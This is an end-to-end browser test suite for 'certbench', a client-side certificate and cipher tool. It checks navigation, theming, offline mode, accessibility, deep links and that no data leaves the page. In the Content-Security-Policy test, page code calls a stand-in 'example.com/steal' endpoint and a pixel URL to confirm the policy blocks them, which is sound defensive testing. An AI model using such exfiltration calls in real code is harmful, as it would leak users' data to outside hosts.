// End-to-end: the app as a whole in Chromium: the shell, the worker, privacy, offline, accessibility,
// deep links and the explanations beside every field.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import { execFileSync } from 'node:child_process';
import { X509Certificate, createPrivateKey, createPublicKey } from 'node:crypto';
import path from 'node:path';
import { open, useApp, fixture, root, fixtureBytes, assertOnlyOwnAssets, dropFiles, mozillaRoot, fillVerify } from './harness.mjs';

const app = useApp();

test('shell: header, promise and five tabs with hash routing', async () => {
  const { page, problems, context } = await open(app.browser, app.server.base);
  assert.equal(await page.textContent('h1'), 'certbench');
  assert.match(await page.textContent('.promise'), /Nothing is uploaded/);
  assert.deepEqual(await page.$$eval('nav a', (as) => as.map((a) => a.textContent)), ['Decode', 'Generate', 'Verify', 'Ciphers', 'Samples']);
  await page.click('#tab-verify');
  await page.waitForSelector('#verify-chain');
  assert.match(page.url(), /#\/verify$/);
  await page.goto(`${app.server.base}#/ciphers`);
  await page.waitForSelector('#cipher-input');
  assert.deepEqual(problems, []);
  await context.close();
});

app.test('shell: the theme follows the system, and the header toggle picks dark, light or back to auto', '#/decode', async ({ page, problems, context }) => {
  const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  await page.emulateMedia({ colorScheme: 'light' });
  const light = await background();
  await page.click('#theme-toggle');
  assert.equal(await page.getAttribute('html', 'data-theme'), 'dark');
  const dark = await background();
  assert.notEqual(dark, light);
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.click('#theme-toggle');
  assert.equal(await page.getAttribute('html', 'data-theme'), 'light');
  assert.equal(await background(), light, 'light chosen wins over a dark system');
  await page.click('#theme-toggle');
  assert.equal(await page.getAttribute('html', 'data-theme'), null);
  assert.equal(await background(), dark, 'auto follows the (dark) system again');
  assert.match(await page.textContent('#theme-toggle'), /auto/);
});

app.test('explanations: fields, checks and cipher parts say what they are and why they matter', '#/decode', async ({ page, problems, context }) => {
  await page.fill('#decode-input', fixture('leaf.pem'));
  await page.click('#decode-results details.fields > summary');
  const serial = page.locator('#decode-results dt:has-text("Serial") details.why');
  await serial.locator('summary').click();
  assert.match(await serial.locator('.why-text').textContent(), /unique per CA.*RFC 5280 §4\.1\.2\.2/s);
  // Keyboard: Enter on a focused "?" opens it too.
  const san = page.locator('#decode-results dt:has-text("Names (SAN)") details.why');
  await san.locator('summary').focus();
  await page.keyboard.press('Enter');
  assert.equal(await san.getAttribute('open'), '');
  assert.match(await san.locator('.why-text').textContent(), /host name/);
  const bc = page.locator('#decode-results .extensions th:has-text("basicConstraints") details.why');
  await bc.locator('summary').click();
  assert.match(await bc.locator('.why-text').textContent(), /RFC 5280 §4\.2\.1\.9/);
  await page.goto(`${app.server.base}#/ciphers/TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256`);
  const kx = page.locator('#cipher-parts dt:has-text("Key exchange") details.why');
  await kx.locator('summary').click();
  assert.match(await kx.locator('.why-text').textContent(), /forward secrecy/);
  await page.goto(`${app.server.base}#/samples`);
  await page.click('#sample-hostname-mismatch a.open-sample');
  await page.waitForSelector('#verify-verdict');
  const host = page.locator('table.checks td:has-text("hostname") details.why');
  await host.locator('summary').click();
  assert.match(await host.locator('.why-text').textContent(), /RFC 6125/);
});

test('worker: started with this build\'s version, which both of its files are fetched with', async () => {
  const { page, requests, problems, context } = await open(app.browser, `${app.server.base}#/decode`);
  const loader = await page.getAttribute('meta[name=certbench-worker]', 'content');
  const version = /\?v=[0-9a-f]{16}$/.exec(loader)?.[0] ?? assert.fail(`no version in ${loader}`);
  await page.fill('#decode-input', fixture('fullchain.pem'));
  await page.waitForSelector('#decode-results .card >> nth=1');
  for (const file of ['worker-loader.js', 'certbench-worker.js', 'certbench-worker_bg.wasm']) {
    assert.ok(requests.some((url) => url.endsWith(`/${file}${version}`)), `${file}${version} in ${requests.join(' ')}`);
  }
  assert.deepEqual(problems, []);
  await context.close();
});

test('privacy: a whole session requests only the app\'s own assets, and nothing after load', async () => {
  const { page, requests, problems, context } = await open(app.browser, app.server.base);
  await page.waitForLoadState('networkidle');
  const atLoad = requests.length;
  await page.fill('#decode-input', fixture('fullchain.pem'));
  await page.waitForSelector('#decode-results .card');
  await page.click('#tab-generate');
  await page.click('#gen-selfsigned');
  await page.waitForSelector('#gen-key');
  await Promise.all([page.waitForEvent('download'), page.click('#gen-key-download')]);
  await page.click('#tab-verify');
  await fillVerify(page, { chain: fixture('fullchain.pem'), roots: fixture('root.pem') });
  await page.click('#verify-run');
  await page.waitForSelector('#verify-verdict');
  await page.click('#tab-ciphers');
  await page.fill('#cipher-input', '0x1301');
  await page.waitForSelector('#cipher-parts');
  await page.waitForTimeout(300);
  assertOnlyOwnAssets(requests, app.server.base);
  const afterLoad = requests.slice(atLoad).filter((u) => !u.startsWith('blob:'));
  assert.deepEqual(afterLoad, [], 'no request after load');
  // Nothing was stored: no localStorage, sessionStorage, cookies, IndexedDB or caches.
  const stored = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookies: document.cookie,
    indexedDb: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
  }));
  assert.deepEqual(stored, { local: 0, session: 0, cookies: '', indexedDb: 0, caches: 0 });
  assertOnlyOwnAssets(app.server.requests.map((p) => app.server.origin + p), app.server.base);
  assert.deepEqual(problems, []);
  await context.close();
});

test('offline: after "Use offline", the app reloads and decodes with the network off; not before', async () => {
  const { page, problems, context } = await open(app.browser, app.server.base);
  assert.equal(await page.evaluate(() => navigator.serviceWorker.controller), null, 'no service worker unless asked');
  await page.click('#offline');
  await page.waitForSelector('#offline-ready');
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  assert.equal(await page.getAttribute('link[rel=manifest]', 'href'), './manifest.webmanifest');
  const cached = await page.evaluate(async () => (await caches.keys()).length);
  assert.equal(cached, 1, 'one cache of the app\'s own files');
  await context.setOffline(true);
  await page.reload();
  await page.waitForSelector('nav[role=tablist]');
  assert.ok(await page.isVisible('#offline-ready'), 'the page says it works offline');
  await page.fill('#decode-input', fixture('fullchain.pem'));
  await page.waitForSelector('#decode-results .card >> nth=1');
  await context.setOffline(false);
  assert.deepEqual(problems, []);
  await context.close();
});

test('privacy: the Content-Security-Policy is strict and enforced', async () => {
  const { page, context } = await open(app.browser, app.server.base);
  const policy = await page.getAttribute('meta[http-equiv=Content-Security-Policy]', 'content');
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /connect-src 'self'/);
  assert.match(policy, /object-src 'none'/);
  assert.match(policy, /base-uri 'none'/);
  assert.match(policy, /form-action 'none'/);
  assert.doesNotMatch(policy, /'unsafe-inline'|'unsafe-eval'|https?:/);
  // Even code running in the page cannot send anything elsewhere.
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const fetched = await fetch('https://example.com/steal').then(() => 'sent', () => 'blocked');
    const img = new Image();
    img.src = 'https://example.com/pixel.png';
    await new Promise((r) => { img.onerror = r; img.onload = r; });
    await new Promise((r) => setTimeout(r, 100));
    return { fetched, violations };
  });
  assert.equal(outcome.fetched, 'blocked');
  assert.ok(outcome.violations.includes('connect-src') && outcome.violations.includes('img-src'), JSON.stringify(outcome.violations));
  await context.close();
});

test('accessibility: axe-core finds no moderate, serious or critical violation on any tab, light or dark', async () => {
  const axePath = path.join(root, 'tests', 'e2e', 'node_modules', 'axe-core', 'axe.min.js');
  const found = [];
  for (const colorScheme of ['light', 'dark']) {
    // axe is injected as a script, which the app's CSP rightly forbids: bypass it for the audit only.
    const context = await app.browser.newContext({ bypassCSP: true, colorScheme });
    const page = await context.newPage();
    const scenes = {
      decode: async () => { await page.fill('#decode-input', fixture('fullchain.pem')); await page.waitForSelector('#decode-results .card'); },
      generate: async () => { await page.click('#gen-selfsigned'); await page.waitForSelector('#gen-cert'); },
      verify: async () => {
        await fillVerify(page, { chain: fixture('leaf.pem'), roots: fixture('root.pem') });
        await page.click('#verify-run');
        await page.waitForSelector('#verify-verdict');
      },
      ciphers: async () => { await page.fill('#cipher-input', '0xC030'); await page.waitForSelector('#cipher-parts'); },
    };
    for (const [tab, act] of Object.entries(scenes)) {
      await page.goto(`${app.server.base}#/${tab}`);
      await page.waitForSelector('nav[role=tablist]');
      await act();
      await page.addScriptTag({ path: axePath });
      const result = await page.evaluate(async () => (await window.axe.run(document, { resultTypes: ['violations'] })).violations
        .filter((v) => v.impact !== 'minor')
        .map((v) => `${v.id} (${v.impact}): ${v.nodes.slice(0, 3).map((n) => n.target.join(' ')).join(' | ')}`));
      found.push(...result.map((r) => `${colorScheme} ${tab}: ${r}`));
    }
    await context.close();
  }
  assert.deepEqual(found, []);
});

test('accessibility: the Verify tab works with the keyboard alone, with visible focus', async () => {
  const { page, problems, context } = await open(app.browser, app.server.base);
  // Tab to the Verify tab link and follow it with Enter.
  for (let i = 0; i < 10 && (await page.evaluate(() => document.activeElement?.id)) !== 'tab-verify'; i++) {
    await page.keyboard.press('Tab');
  }
  assert.equal(await page.evaluate(() => document.activeElement?.id), 'tab-verify');
  const outline = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle);
  assert.notEqual(outline, 'none', 'focus is visible');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#verify-chain');
  const tabTo = async (id) => {
    for (let i = 0; i < 20 && (await page.evaluate(() => document.activeElement?.id)) !== id; i++) await page.keyboard.press('Tab');
    assert.equal(await page.evaluate(() => document.activeElement?.id), id);
  };
  await tabTo('verify-chain');
  await page.keyboard.insertText(fixture('fullchain.pem'));
  await tabTo('verify-roots');
  await page.keyboard.insertText(fixture('root.pem'));
  await tabTo('verify-run');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#verify-verdict');
  assert.equal(await page.textContent('#verify-verdict'), 'valid');
  assert.deepEqual(problems, []);
  await context.close();
});

app.test('deep links: a chain shared from Verify opens the same state in a fresh page; keys never travel', '#/verify', async ({ page, problems, context }) => {
  await fillVerify(page, { chain: fixture('int.pem') + fixture('leaf.pem'), roots: fixture('root.pem'), host: 'www.example.test' });
  await page.click('#verify-link');
  await page.waitForSelector('#verify-link-done');
  const link = page.url();
  assert.match(link, /#\/verify\/chain=[\w-]+&roots=[\w-]+&host=www\.example\.test/);
  const fresh = await open(app.browser, link);
  await fresh.page.waitForSelector('#verify-chain');
  assert.equal(await fresh.page.inputValue('#verify-host'), 'www.example.test');
  // The link's certificates are read by the worker: the fields fill a moment later.
  await fresh.page.waitForFunction(() => document.querySelector('#verify-chain').value.includes('BEGIN CERTIFICATE'));
  await fresh.page.click('#verify-run');
  await fresh.page.waitForSelector('#verify-verdict');
  assert.equal(await fresh.page.textContent('#verify-verdict'), 'valid');
  assert.equal(await fresh.page.$$eval('#verify-result ol li', (li) => li.length), 3);
  await fresh.context.close();
  // Decode: certificates yes, a private key never.
  await page.goto(`${app.server.base}#/decode`);
  await page.fill('#decode-input', fixture('fullchain.pem'));
  await page.fill('#decode-at', '2050-01-01T00:00');
  await page.click('#decode-link');
  await page.waitForSelector('#decode-link-done');
  const decodeLink = page.url();
  assert.match(decodeLink, /#\/decode\/[\w-]+&at=2050-01-01T00%3A00$/);
  const shared = await open(app.browser, decodeLink);
  await shared.page.waitForSelector('#decode-results .card >> nth=1');
  assert.equal(await shared.page.$$eval('#decode-results .card', (c) => c.length), 2);
  assert.equal(await shared.page.inputValue('#decode-at'), '2050-01-01T00:00', 'the chosen time travels too');
  assert.match(await shared.page.textContent('#decode-results h3'), /expired/);
  await shared.context.close();
  await page.fill('#decode-at', '');
  await page.fill('#decode-input', fixture('fullchain.pem') + fixture('leaf.key'));
  await page.click('#decode-link');
  assert.match(await page.textContent('[role=alert]'), /never carry keys/);
});
